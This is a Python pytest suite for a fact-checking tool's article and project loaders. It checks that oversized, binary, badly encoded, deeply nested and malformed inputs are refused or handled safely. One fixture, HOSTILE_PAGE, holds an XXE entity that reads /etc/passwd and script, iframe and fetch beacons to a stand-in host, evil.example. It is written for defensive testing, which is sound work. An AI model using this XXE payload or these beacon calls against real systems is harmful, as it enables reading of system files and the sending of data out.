"""Hostile and broken inputs: each gives a clear error or a safe result, quickly, offline.

Cases already covered elsewhere are not repeated here: see test_loading.py (missing,
folder, empty, whitespace-only, 25 MB, grown file, binary, control characters, bad
UTF-16 with BOM, named pipe, UTF-16 without BOM, remote page resources) and
test_projectfile.py (future version 2, unknown verdict, negative and out-of-range
offsets, wrong types, edited text, 600,000 annotations, truncated, malformed,
unclosed nesting). Every case runs with the network switched off and checks that no
file is created or changed.
"""

from __future__ import annotations

import json
import time
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from factcheck.errors import ArticleLoadError, ProjectFileError
from factcheck.loading import load_article
from factcheck.models import Article, Orphan, Project, TextAnchor
from factcheck.projectfile import dumps_project, load_project
from factcheck.segmentation import segment_claims
from factcheck.store import ProjectStore

from .helpers import index_matcher
from .test_projectfile import annotated_project

MB = 1024 * 1024


#: ``tracemalloc`` slows every allocation. The guard counts this process's CPU time, not
#: wall time: on a machine shared with other work, waiting for a core is not a blow-up
#: (a hang that blocks instead of spinning is pytest-timeout's to catch).
SLACK = 4


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # "article" or "project"
    file_name: str
    make: Callable[[Path], object]
    #: Words of the expected error's problem; ``None``: loading must succeed.
    problem: str | None
    #: What a quiet machine needs, with room to spare; the test allows :data:`SLACK`
    #: times as much. A guard against hangs and blow-ups (reading a file meant to be
    #: refused, quadratic parsing), not a speed target: those live in benchmarks.
    seconds: float = 5.0
    #: Peak Python memory allowed while loading.
    max_mb: float = 64.0
    #: Check of a successful result.
    check: Callable[[Any], object] | None = None


def _write(data: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(data)


def _write_large(size: int, line: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        chunk = line * (MB // len(line))
        with path.open("wb") as stream:
            for _ in range(size // len(chunk) + 1):
                stream.write(chunk)

    return make


def _sparse(path: Path, size: int) -> None:
    with path.open("wb") as stream:
        stream.truncate(size)  # instant, takes no disk space


def _link_to(device: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(device)


def _project(edit: Callable[[dict[str, Any]], object]) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        data = json.loads(dumps_project(annotated_project().project()))
        edit(data)
        path.write_text(json.dumps(data, ensure_ascii=True), "utf-8")

    return make


def _raw_project(replace: tuple[str, str]) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        text = dumps_project(annotated_project().project())
        assert replace[0] in text
        path.write_text(text.replace(*replace, 1), "utf-8")

    return make


def _set(where: str, value: object) -> Callable[[dict[str, Any]], object]:
    def edit(data: dict[str, Any]) -> None:
        *parents, last = where.split("/")
        node: Any = data
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node[key]
        node[int(last) if isinstance(node, list) else last] = value

    return edit


def _duplicate(key: str) -> Callable[[dict[str, Any]], object]:
    return lambda data: data[key].append(dict(data[key][0]))


def _orphan_with_verdict(verdict: str) -> Callable[[dict[str, Any]], object]:
    def edit(data: dict[str, Any]) -> None:
        data["orphans"][0]["annotation"] = {**data["annotations"][0], "verdict": verdict}

    return edit


def _both_in_orphan(data: dict[str, Any]) -> None:
    data["orphans"][0]["annotation"] = data["annotations"][0]
    data["orphans"][0]["link"] = data["links"][0]


HOSTILE_PAGE = b"""<!DOCTYPE html [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
<!ENTITY remote SYSTEM "http://evil.example/dtd">
]>
<html><head>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0; url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/style.css">
<script src="http://evil.example/x.js"></script>
<script>fetch("http://evil.example/beacon"); document.write("SCRIPTMARK")</script>
</head><body onload="alert('ONLOADMARK')">
<iframe src="http://evil.example/frame">IFRAMEMARK</iframe>
<object data="http://evil.example/obj">OBJECTMARK</object>
<embed src="http://evil.example/embed">
<svg onload="alert(1)"><text>SVGMARK</text></svg>
<p>Entity: &xxe; &remote;</p>
<img src="http://evil.example/pixel.gif" srcset="http://evil.example/2x.gif 2x" alt="IMGMARK">
<video poster="http://evil.example/poster.jpg" src="http://evil.example/v.mp4"></video>
<p>The minister resigned on Tuesday after the vote.</p>
</body></html>
"""
MARKS = ("SCRIPTMARK", "ONLOADMARK", "IFRAMEMARK", "OBJECTMARK", "SVGMARK", "IMGMARK", "root:")


def _hostile_page_is_safe(article: Article) -> None:
    assert "The minister resigned on Tuesday after the vote." in article.text
    for mark in MARKS:
        assert mark not in article.text


def _has_text(words: str) -> Callable[[Article], None]:
    def check(article: Article) -> None:
        assert words in article.text
        assert "\r" not in article.text

    return check


def _store_opens(project: Project) -> None:
    ProjectStore(project, matcher=index_matcher)


CASES = [
    # -- articles ------------------------------------------------------------------
    Case(
        "100MB-text",
        "article",
        "big.txt",
        _write_large(100 * MB, b"All work and no play makes Jack a dull boy.\n"),
        "too large",
        seconds=10,  # writing the file is not timed, but the check must not read it
        max_mb=1,
    ),
    Case("100MB-html", "article", "big.html", _write_large(100 * MB, b"<p>x</p>\n"), "too large"),
    Case("dev-zero", "article", "zero.txt", _link_to("/dev/zero"), "not a regular file"),
    Case("binary-as-html", "article", "photo.html", _write(b"GIF89a\x01\x00" * 300), "binary"),
    Case(
        "invalid-utf8",
        "article",
        "broken.txt",
        _write(b"The caf\xc3 owner said \xff\xfe it was \x80over\x80. The end of it.\n" * 20),
        None,
        check=_has_text("owner said"),
    ),
    Case(
        "utf16-be-without-bom-html",
        "article",
        "page.html",
        _write("<html><body><p>Die Ärztin sagte: „Nein.“</p></body></html>".encode("utf-16-be")),
        None,
        check=_has_text("Die Ärztin sagte: „Nein.“"),
    ),
    Case(
        "html-scripts-frames-remote-resources-xxe",
        "article",
        "hostile.html",
        _write(HOSTILE_PAGE),
        None,
        check=_hostile_page_is_safe,
    ),
    Case(
        "html-nested-200000-deep",
        "article",
        "deep.html",
        _write(b"<div>" * 200_000 + b"<p>Deep words here.</p>" + b"</div>" * 200_000),
        "no readable text",  # libxml2 gives up past its depth limit: refused, quickly
        seconds=20,
        max_mb=256,
    ),
    Case(
        "one-5MB-line-without-spaces",
        "article",
        "line.txt",
        _write(b"a" * (5 * MB)),
        None,
        seconds=20,
        max_mb=128,
        check=lambda article: segment_claims(article),
    ),
    Case(
        "100000-short-lines",  # at the claim limit
        "article",
        "lines.txt",
        _write(b"Yes.\n" * 100_000),
        None,
        seconds=20,
        check=lambda article: segment_claims(article),
    ),
    # -- projects ------------------------------------------------------------------
    Case(
        "200MB-project",
        "project",
        "big.factcheck.json",
        lambda path: _sparse(path, 200 * MB),
        "too large",
        max_mb=1,
    ),
    Case("dev-zero-project", "project", "z.json", _link_to("/dev/zero"), "not a regular file"),
    Case(
        "utf16-project",
        "project",
        "p.json",
        _write(json.dumps({"format": "factcheck-project"}).encode("utf-16")),
        "not UTF-8",
    ),
    Case(
        "utf8-bom-project",
        "project",
        "p.json",
        lambda path: path.write_bytes(
            b"\xef\xbb\xbf" + dumps_project(annotated_project().project()).encode()
        ),
        None,
        check=_store_opens,
    ),
    Case(
        "deep-but-well-formed-nesting",
        "project",
        "p.json",
        _raw_project(('"name": "demo"', '"name": ' + "[" * 100_000 + "]" * 100_000)),
        "nested too deeply",
    ),
    Case(
        "nesting-900-deep-in-a-string-field",
        "project",
        "p.json",
        _raw_project(('"name": "demo"', '"name": ' + '{"x": ' * 900 + "1" + "}" * 900)),
        "invalid project file at name",
    ),
    Case(
        "a-million-tags",
        "project",
        "p.json",
        _project(_set("annotations/0/tags", ["x"] * 1_000_000)),
        "too many items",
        max_mb=256,
    ),
    Case(
        "a-million-links-of-wrong-type",
        "project",
        "p.json",
        _project(_set("links", [0] * 1_000_000)),
        "links: too many items",
        max_mb=256,
    ),
    Case(
        "top-level-array-of-a-million",
        "project",
        "p.json",
        _write(b"[" + b"0," * 999_999 + b"0]"),
        "not a factcheck project",
        max_mb=256,
    ),
    Case(
        "number-of-5000-digits",
        "project",
        "p.json",
        _raw_project(('"start":0', '"start":' + "9" * 5000)),
        "number is too long",
    ),
    Case("NaN", "project", "p.json", _raw_project(('"threshold":20.0', '"threshold":NaN')), "NaN"),
    Case(
        "Infinity",
        "project",
        "p.json",
        _raw_project(('"score":null', '"score":-Infinity')),
        "-Infinity",
    ),
    Case(
        "lone-surrogate",
        "project",
        "p.json",
        _project(_set("annotations/0/note", "\ud800")),
        "invalid text at annotations/0/note: a lone surrogate",
    ),
    Case(
        "string-instead-of-list",
        "project",
        "p.json",
        _project(_set("annotations", "none")),
        "invalid project file at annotations",
    ),
    Case(
        "start-after-end",
        "project",
        "p.json",
        _project(_set("annotations/0/anchor/start", 60)),
        "lie outside article",
    ),
    Case(
        "empty-span",
        "project",
        "p.json",
        _project(_set("annotations/0/anchor/end", 26)),
        "mark no text",
    ),
    Case(
        "link-end-past-article-b",
        "project",
        "p.json",
        _project(_set("links/0/b_anchor/end", 99_999)),
        "links/0: offsets",
    ),
    Case(
        "unknown-verdict-in-an-orphan",
        "project",
        "p.json",
        _project(_orphan_with_verdict("fake news")),
        "orphans/0/annotation",
    ),
    Case(
        "unknown-link-state",
        "project",
        "p.json",
        _project(_set("links/0/state", "maybe")),
        "links/0/state",
    ),
    Case(
        "future-version-with-another-layout",
        "project",
        "p.json",
        _write(b'{"format": "factcheck-project", "version": 7, "everything": "else"}'),
        "newer factcheck (project version 7",
    ),
    Case("version-as-string", "project", "p.json", _project(_set("version", "1")), "version"),
    Case(
        "orphan-with-both-annotation-and-link",
        "project",
        "p.json",
        _project(_both_in_orphan),
        "orphans/0: an orphan holds one annotation or one link, not both",
    ),
    Case(
        "two-annotations-on-one-claim",
        "project",
        "p.json",
        _project(_duplicate("annotations")),
        "a second annotation on claim",
    ),
    Case(
        "two-links-between-one-pair",
        "project",
        "p.json",
        _project(_duplicate("links")),
        "a second link between",
    ),
    Case(
        "claim-ids-that-do-not-exist",
        "project",
        "p.json",
        _project(_set("annotations/0/claim_id", "nonsense")),
        None,
        check=_store_opens,  # the anchor, not the id, says where it is
    ),
]


def _listing(folder: Path) -> dict[str, tuple[int, int]]:
    return {p.name: (p.lstat().st_size, p.lstat().st_mtime_ns) for p in folder.iterdir()}


@pytest.mark.usefixtures("offline")
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input(tmp_path: Path, case: Case) -> None:
    path = tmp_path / case.file_name
    case.make(path)
    before = _listing(tmp_path)
    error_type = ArticleLoadError if case.kind == "article" else ProjectFileError

    began = time.process_time()
    tracemalloc.start()
    try:
        if case.kind == "article":
            result: Any = load_article(path, article_id="a")
        else:
            result = load_project(path)
        error = None
    except error_type as exc:
        error = exc
    finally:
        peak = tracemalloc.get_traced_memory()[1] / MB
        tracemalloc.stop()
    if error is None and case.check is not None:
        case.check(result)
    elapsed = time.process_time() - began

    if case.problem is None:
        assert error is None, f"{case.name}: {error}"
    else:
        assert error is not None, f"{case.name}: loaded, but should be refused"
        assert str(error).startswith(f"{path.absolute() if case.kind == 'article' else path}: ")
        assert case.problem in str(error)
    assert elapsed < case.seconds * SLACK, f"{case.name} took {elapsed:.1f} s of CPU"
    assert peak < case.max_mb, f"{case.name} used {peak:.0f} MB"
    assert _listing(tmp_path) == before  # nothing written, changed or left over


def test_orphan_without_annotation_or_link_loads_and_cannot_be_reattached(tmp_path: Path) -> None:
    from factcheck.update import reattach_orphan

    project = annotated_project().project()
    assert project.orphans == (
        Orphan(article_id="a", anchor=TextAnchor(0, 5, "gone!"), reason="deleted"),
    )
    with pytest.raises(ValueError, match="holds no annotation or link"):
        reattach_orphan(project, 0, "a:1")
